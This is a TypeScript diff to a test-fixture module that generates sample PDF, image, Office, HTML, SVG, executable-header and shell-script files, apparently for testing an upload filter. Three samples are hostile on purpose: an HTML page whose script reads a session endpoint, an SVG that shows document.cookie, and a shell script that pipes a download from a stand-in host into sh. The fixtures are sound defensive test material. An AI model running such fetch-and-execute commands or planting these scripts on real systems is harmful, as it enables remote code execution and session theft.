@@ -1,12 +1,17 @@
 import { crc32, deflateRawSync, deflateSync } from "node:zlib";
 
+/** Bytes as File and Blob take them (a Buffer's type allows a SharedArrayBuffer, which they do not). */
+export type Bytes = Uint8Array<ArrayBuffer>;
+
+const bytes = (buffer: Buffer): Bytes => new Uint8Array(buffer);
+
 // Small files with the real bytes of each format, built in code so that the unit, integration and
 // end-to-end tests need no binary fixtures and no tool to make them. Each is what the format's own
 // software would recognise: the PDF opens in a viewer, the images show, Word and Excel open the
 // DOCX and XLSX.
 
 /** A one-page PDF saying `text` (ASCII), with a correct cross-reference table. */
-export function samplePdf(text = "Passport scan"): Buffer {
+export function samplePdf(text = "Passport scan"): Bytes {
   const stream = `BT /F1 24 Tf 72 720 Td (${text.replace(/[()\\]/g, "\\$&")}) Tj ET`;
   const objects = [
     "<< /Type /Catalog /Pages 2 0 R >>",
@@ -25,7 +30,7 @@ export function samplePdf(text = "Passport scan"): Buffer {
   body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
   for (const offset of offsets) body += `${String(offset).padStart(10, "0")} 00000 n \n`;
   body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
-  return Buffer.from(body, "latin1");
+  return bytes(Buffer.from(body, "latin1"));
 }
 
 function pngChunk(type: string, data: Buffer): Buffer {
@@ -38,7 +43,7 @@ function pngChunk(type: string, data: Buffer): Buffer {
 }
 
 /** A `width` × `height` RGB PNG, a diagonal gradient in `rgb`'s hue. */
-export function samplePng(width = 64, height = 48, rgb: [number, number, number] = [37, 99, 235]): Buffer {
+export function samplePng(width = 64, height = 48, rgb: [number, number, number] = [37, 99, 235]): Bytes {
   const header = Buffer.alloc(13);
   header.writeUInt32BE(width, 0);
   header.writeUInt32BE(height, 4);
@@ -51,12 +56,12 @@ export function samplePng(width = 64, height = 48, rgb: [number, number, number]
       rgb.forEach((c, i) => (rows[row + 1 + x * 3 + i] = Math.round(255 - (255 - c) * shade)));
     }
   }
-  return Buffer.concat([
+  return bytes(Buffer.concat([
     Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
     pngChunk("IHDR", header),
     pngChunk("IDAT", deflateSync(rows)),
     pngChunk("IEND", Buffer.alloc(0)),
-  ]);
+  ]));
 }
 
 // An 8 × 8 JPEG as Chromium's encoder writes it (canvas.toDataURL): JFIF, an sRGB ICC profile, baseline DCT.
@@ -74,8 +79,8 @@ const JPEG_8X8 = [
 ].join("");
 
 /** An 8 × 8 JPEG (a white square on blue). */
-export function sampleJpeg(): Buffer {
-  return Buffer.from(JPEG_8X8, "base64");
+export function sampleJpeg(): Bytes {
+  return bytes(Buffer.from(JPEG_8X8, "base64"));
 }
 
 // The same picture as a lossy WebP (RIFF/WEBP/VP8X with an ICC profile), from Chromium's encoder.
@@ -91,8 +96,8 @@ const WEBP_8X8 = [
 ].join("");
 
 /** An 8 × 8 WebP. */
-export function sampleWebp(): Buffer {
-  return Buffer.from(WEBP_8X8, "base64");
+export function sampleWebp(): Bytes {
+  return bytes(Buffer.from(WEBP_8X8, "base64"));
 }
 
 function box(type: string, payload: Buffer): Buffer {
@@ -106,10 +111,10 @@ function box(type: string, payload: Buffer): Buffer {
  * heic), then a `meta` box. What identifies the format is the ftyp box; the picture itself does not
  * matter to any rule here.
  */
-export function sampleHeic(): Buffer {
+export function sampleHeic(): Bytes {
   const ftyp = box("ftyp", Buffer.concat([Buffer.from("heic", "latin1"), Buffer.alloc(4), Buffer.from("mif1heic", "latin1")]));
   const hdlr = box("hdlr", Buffer.concat([Buffer.alloc(8), Buffer.from("pict", "latin1"), Buffer.alloc(13)]));
-  return Buffer.concat([ftyp, box("meta", Buffer.concat([Buffer.alloc(4), hdlr]))]);
+  return bytes(Buffer.concat([ftyp, box("meta", Buffer.concat([Buffer.alloc(4), hdlr]))]));
 }
 
 type ZipEntry = { name: string; content: string | Buffer };
@@ -118,7 +123,7 @@ type ZipEntry = { name: string; content: string | Buffer };
  * A zip archive of `entries`, in that order: deflated, or stored with the sizes in a data descriptor
  * after the data (`streamed`), as tools that write to a stream do.
  */
-export function zip(entries: ZipEntry[], { streamed = false } = {}): Buffer {
+export function zip(entries: ZipEntry[], { streamed = false } = {}): Bytes {
   const locals: Buffer[] = [];
   const centrals: Buffer[] = [];
   let offset = 0;
@@ -172,7 +177,7 @@ export function zip(entries: ZipEntry[], { streamed = false } = {}): Buffer {
   end.writeUInt16LE(entries.length, 10);
   end.writeUInt32LE(directory.length, 12);
   end.writeUInt32LE(offset, 16);
-  return Buffer.concat([...locals, directory, end]);
+  return bytes(Buffer.concat([...locals, directory, end]));
 }
 
 const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
@@ -192,7 +197,7 @@ function contentTypes(part: string, type: string): string {
  * "streamed" writes the parts first and [Content_Types].xml last, stored with data descriptors, as
  * streaming writers do.
  */
-export function sampleDocx(text = "推荐信", order: "word" | "streamed" = "word"): Buffer {
+export function sampleDocx(text = "推荐信", order: "word" | "streamed" = "word"): Bytes {
   const entries = [
     { name: "[Content_Types].xml", content: contentTypes("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml") },
     { name: "_rels/.rels", content: RELS.replace("PART", "word/document.xml") },
@@ -205,7 +210,7 @@ export function sampleDocx(text = "推荐信", order: "word" | "streamed" = "wor
 }
 
 /** A one-cell Excel workbook (成绩单 as a spreadsheet). */
-export function sampleXlsx(order: "excel" | "streamed" = "excel"): Buffer {
+export function sampleXlsx(order: "excel" | "streamed" = "excel"): Bytes {
   const entries = [
     { name: "[Content_Types].xml", content: contentTypes("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml") },
     { name: "_rels/.rels", content: RELS.replace("PART", "xl/workbook.xml") },
@@ -218,37 +223,37 @@ export function sampleXlsx(order: "excel" | "streamed" = "excel"): Buffer {
 }
 
 /** An HTML page with a script: what a browser would run if it were served as HTML. */
-export function sampleHtml(): Buffer {
-  return Buffer.from('<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>护照</title></head><body><script>fetch("/api/auth/session").then(r => r.text()).then(alert)</script></body></html>\n');
+export function sampleHtml(): Bytes {
+  return bytes(Buffer.from('<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>护照</title></head><body><script>fetch("/api/auth/session").then(r => r.text()).then(alert)</script></body></html>\n'));
 }
 
 /** An SVG image with a script in it. */
-export function sampleSvg(): Buffer {
-  return Buffer.from('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>\n');
+export function sampleSvg(): Bytes {
+  return bytes(Buffer.from('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>\n'));
 }
 
 /** The start of a Linux executable (64-bit ELF header). */
-export function sampleElf(): Buffer {
+export function sampleElf(): Bytes {
   const header = Buffer.alloc(64);
   header.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], 0);
   header.writeUInt16LE(2, 16); // ET_EXEC
   header.writeUInt16LE(0x3e, 18); // x86-64
   header.writeUInt32LE(1, 20);
-  return Buffer.concat([header, Buffer.alloc(64)]);
+  return bytes(Buffer.concat([header, Buffer.alloc(64)]));
 }
 
 /** The start of a Windows executable: the MZ stub pointing at a PE header. */
-export function samplePe(): Buffer {
+export function samplePe(): Bytes {
   const file = Buffer.alloc(256);
   file.write("MZ", 0, "latin1");
   file.writeUInt32LE(0x80, 0x3c);
   file.write("This program cannot be run in DOS mode.", 0x4e, "latin1");
   file.write("PE\0\0", 0x80, "latin1");
   file.writeUInt16LE(0x8664, 0x84);
-  return file;
+  return bytes(file);
 }
 
 /** A shell script. */
-export function sampleShellScript(): Buffer {
-  return Buffer.from("#!/bin/sh\ncurl -s http://example.invalid/x | sh\n");
+export function sampleShellScript(): Bytes {
+  return bytes(Buffer.from("#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"));
 }
